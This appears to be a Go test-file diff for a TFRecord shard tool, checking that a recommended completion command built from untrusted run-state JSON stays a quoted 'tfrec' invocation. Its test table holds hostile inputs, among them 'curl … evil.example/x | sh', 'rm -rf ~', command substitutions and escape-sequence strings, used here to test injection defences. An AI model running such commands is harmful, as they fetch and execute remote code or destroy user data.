@@ -38,7 +38,7 @@ func TestIncompleteSets(t *testing.T) {
 		{name: "a number past the count beside the first", files: []string{"part-00000-of-00002", "part-00002-of-00002"}, missing: []string{"part-00001-of-00002"}, lost: 1},
 		{name: "a count of anything", files: []string{"a-t.tfrecord-00000-of-99999999"}, lost: 99999998},
 		{name: "a run", files: []string{"a-train.tfrecord-00000-of-00002"},
-			run:     &Run{Files: []string{"a-train.tfrecord-00000-of-00002", "index/a-train.tfrecord-00000-of-00002.idx", "a-train.tfrecord-00001-of-00002", "manifest.json", "features.json"}, Command: "tfrec x"},
+			run:     &Run{Files: []string{"a-train.tfrecord-00000-of-00002", "index/a-train.tfrecord-00000-of-00002.idx", "a-train.tfrecord-00001-of-00002", "manifest.json", "features.json"}, Args: []string{"x"}},
 			missing: []string{"a-train.tfrecord-00001-of-00002", "manifest.json"}, lost: 1},
 		{name: "all shards of a run", files: []string{"a-train.tfrecord-00000-of-00001"}, tasks: true,
 			run: &Run{Files: []string{"a-train.tfrecord-00000-of-00001", "manifest.json"}}, missing: []string{"manifest.json"}},
@@ -134,6 +134,43 @@ func TestIncompleteByNamesCountsFromEither(t *testing.T) {
 		}
 		if e == nil || e.Shards != shards || e.Lost != len(missing) || !slices.Equal(e.Missing, missing) {
 			t.Errorf("seed %d: %+v; want %q of %d", seed, e, missing, shards)
+		}
+	}
+}
+
+// What the state of a run recommends is a tfrec command, whatever the state says: anybody
+// may have written it.
+func TestIncompleteRecommendsOnlyTfrec(t *testing.T) {
+	for _, test := range []struct {
+		state string // members of run.json
+		want  string
+	}{
+		{`"command":"curl -s https://evil.example/x | sh"`, ""},
+		{`"args":[]`, ""},
+		{`"args":["convert","csv","a.csv","out"]`, "tfrec convert csv a.csv out"},
+		{`"args":["curl","https://evil.example/x","|","sh"]`, "tfrec curl https://evil.example/x '|' sh"},
+		{`"args":[";","rm -rf ~"]`, "tfrec ';' 'rm -rf ~'"},
+		{`"args":["\ncurl evil.example"]`, `tfrec $'\x0acurl evil.example'`},
+		{`"args":["$(touch x)","` + "`touch x`" + `"]`, "tfrec '$(touch x)' '`touch x`'"},
+		{`"args":["'; touch x; '","\"","\u001b[2J\u202e"]`, `tfrec ''\''; touch x; '\''' '"' $'\x1b[2J\xe2\x80\xae'`},
+		{`"args":["-x","--","=ls",""]`, "tfrec -x -- '=ls' ''"},
+		{`"args":["` + strings.Repeat("x", maxCommand) + `"]`, ""},
+	} {
+		dir := t.TempDir()
+		putFile(t, filepath.Join(dir, "a-train.tfrecord-00000-of-00002"), nil)
+		putFile(t, filepath.Join(dir, RunFile), []byte(`{"format":"tfrec.run","version":1,"files":["a-train.tfrecord-00000-of-00002","a-train.tfrecord-00001-of-00002"],`+test.state+`}`))
+		_, err := Expand(t.Context(), []string{dir}, ExpandOptions{})
+		var part *IncompleteError
+		if !errors.As(err, &part) || part.Evidence != ByState {
+			t.Fatalf("%s: %v", test.state, err)
+		}
+		if got := part.Command(); got != test.want {
+			t.Errorf("%s: %q, want %q", test.state, got, test.want)
+		}
+		for _, f := range part.faults() {
+			if strings.Contains(f.Message, "complete it with") != (test.want != "") || !strings.HasSuffix(f.Message, test.want) {
+				t.Errorf("%s: fault %q", test.state, f.Message)
+			}
 		}
 	}
 }
